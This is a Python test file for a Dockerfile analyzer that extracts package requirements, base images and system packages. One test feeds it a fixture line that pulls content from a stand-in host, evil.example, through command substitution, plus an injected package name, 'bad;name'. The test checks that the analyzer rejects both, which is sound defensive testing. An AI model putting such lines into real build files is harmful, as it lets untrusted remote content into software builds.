"""Dockerfiles: FROM images and stages, RUN installs, -r through COPY/WORKDIR, apt packages."""

from __future__ import annotations

from pathlib import Path

from gpu_lol.analyzer.packages import collect
from gpu_lol.repo_index import FileIndex

CASES = Path(__file__).parent / "fixtures" / "packages"


def report_for(case):
    return collect(FileIndex.build(CASES / case if isinstance(case, str) else case))


def pairs(items):
    return [(q.text, q.evidence.cite()) for q in items]


def test_dockerfile_installs_images_and_system_packages():
    r = report_for("docker")
    assert pairs(r.requirements) == [
        ("torch==2.1.2", "Dockerfile:13"),  # ARG default substituted
        ("numpy<2.0", "Dockerfile:13"),
        ("fastapi>=0.110", "app/requirements.txt:1"),  # /tmp/reqs.txt <- COPY app/requirements.txt
        ("uvicorn", "app/requirements.txt:2"),
        ("xformers", "requirements-extra.txt:1"),  # WORKDIR /workspace + COPY . .
        ("einops", "Dockerfile:19"),
        ("sentencepiece==0.1.99", "Dockerfile:22"),  # exec form
        ("vllm>=0.4", "Dockerfile:23"),  # uv pip install
        ("faiss-gpu", "Dockerfile:24"),  # conda install
    ]
    sources = {q.source for q in r.requirements}
    assert sources == {"dockerfile", "requirements"}
    # final stage first; `FROM base` resolved to the image the base stage names
    assert [(i, e.cite()) for i, e in r.docker_images] == [
        ("nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04", "Dockerfile:5")]
    assert [(n, e.cite()) for n, e in r.system_packages] == [
        ("git", "Dockerfile:8"), ("libgl1", "Dockerfile:8"), ("ffmpeg", "Dockerfile:8")]
    assert [(s, e.cite()) for s, e in r.conda_only] == [("cudatoolkit=11.8", "Dockerfile:24")]
    assert [(k, u, e.cite()) for k, u, e in r.index_urls] == [
        ("--extra-index-url", "https://download.pytorch.org/whl/cu121", "Dockerfile:7")]
    assert [(x, e.cite()) for x, e in r.extras_requested] == [("serve", "Dockerfile:25")]
    assert "Dockerfile:23: dropped '$MISSING_VAR' (uses $MISSING_VAR, unknown here)" in r.warnings
    assert any(w.startswith("Dockerfile:19: ignored --extra-index-url https://pypi.tuna") for w in r.warnings)


def test_platform_and_dev_dockerfiles_do_not_count():
    r = report_for("docker")
    texts = [q.text for q in r.requirements]
    assert "rocm-only-pkg" not in texts and "pytest" not in texts
    assert all("rocm" not in i and "python:3.11" not in i for i, _ in r.docker_images)


def test_multistage_args_platform_and_python_image(tmp_path):
    (tmp_path / "Dockerfile").write_text(
        "ARG PY=3.11\n"
        "FROM --platform=$BUILDPLATFORM node:20 AS web\n"
        "RUN npm ci\n"
        "FROM python:${PY}-slim AS app\n"
        "ARG EXTRA\n"
        "ENV PIP_NO_CACHE_DIR=1 \\\n    LANG=C.UTF-8\n"
        "RUN pip install requests${EXTRA:+[socks]} 'rich>=13'\n"
        "FROM $UNDEFINED_BASE\n")
    r = report_for(tmp_path)
    assert [i for i, _ in r.docker_images] == ["python:3.11-slim", "node:20"]
    assert [(v, e.cite()) for v, e in r.python_versions] == [("3.11", "Dockerfile:4")]
    assert [q.text for q in r.requirements] == ["requests", "rich>=13"]
    assert "Dockerfile:9: base image '$UNDEFINED_BASE' uses a build argument with no default; not used" \
        in r.warnings


def test_heredoc_run_and_docker_folder(tmp_path):
    (tmp_path / "docker").mkdir()
    (tmp_path / "docker" / "Dockerfile").write_text(
        "FROM pytorch/pytorch:2.2.0-cuda12.1-cudnn8-runtime\n"
        "RUN <<EOF\n"
        "apt-get update\n"
        "apt-get install -y --no-install-recommends libsndfile1\n"
        "pip install soundfile librosa==0.10.1\n"
        "EOF\n"
        "RUN echo done\n")
    r = report_for(tmp_path)
    assert [(q.text, q.evidence.cite()) for q in r.requirements] == [
        ("soundfile", "docker/Dockerfile:5"), ("librosa==0.10.1", "docker/Dockerfile:5")]
    assert [n for n, _ in r.system_packages] == ["libsndfile1"]
    assert [i for i, _ in r.docker_images] == ["pytorch/pytorch:2.2.0-cuda12.1-cudnn8-runtime"]


def test_run_with_shell_injection_is_not_passed_on(tmp_path):
    (tmp_path / "Dockerfile").write_text(
        "FROM ubuntu:22.04\n"
        "RUN pip install ok-pkg $(curl -s http://evil.example/x )\n"
        "RUN pip install also-ok `cat names.txt | head -1`\n"
        "RUN apt-get install -y 'bad;name' curl && pip install clean-pkg\n")
    r = report_for(tmp_path)
    # what a substitution would install is unknowable: the whole command is left out
    assert [q.text for q in r.requirements] == ["clean-pkg"]
    assert [n for n, _ in r.system_packages] == ["curl"]
    assert sum("command substitution" in w for w in r.warnings) == 2
    assert "Dockerfile:4: ignored system package 'bad;name' (not a Debian package name)" in r.warnings


def test_editable_install_of_a_folder_is_never_a_pypi_name(tmp_path):
    (tmp_path / "Dockerfile").write_text(
        "FROM nvidia/cuda:12.1.1-devel-ubuntu22.04\n"
        "RUN git clone https://github.com/facebookresearch/detectron2 detectron2_repo\n"
        "RUN pip install --user -e detectron2_repo\n")
    r = report_for(tmp_path)
    assert r.requirements == []
    assert "Dockerfile:3: local path 'detectron2_repo' is not in the repo; not installed" in r.warnings


def test_docker_folders_per_platform(tmp_path):
    for kind, image in (("amd", "rocm/dev-ubuntu-22.04"), ("cpu", "ubuntu:22.04"), ("intel", "intel/oneapi"),
                        ("nvidia", "nvidia/cuda:12.4.1-runtime-ubuntu22.04")):
        (tmp_path / "docker" / kind).mkdir(parents=True)
        (tmp_path / "docker" / kind / "Dockerfile").write_text(f"FROM {image}\nRUN pip install {kind}-only\n")
    r = report_for(tmp_path)
    assert [i for i, _ in r.docker_images] == ["nvidia/cuda:12.4.1-runtime-ubuntu22.04"]
    assert [q.text for q in r.requirements] == ["nvidia-only"]
    (tmp_path / "docker" / "nvidia" / "Dockerfile").unlink()
    r = report_for(tmp_path)  # with no GPU image at all, the CPU one still says something
    assert [i for i, _ in r.docker_images] == ["ubuntu:22.04"]
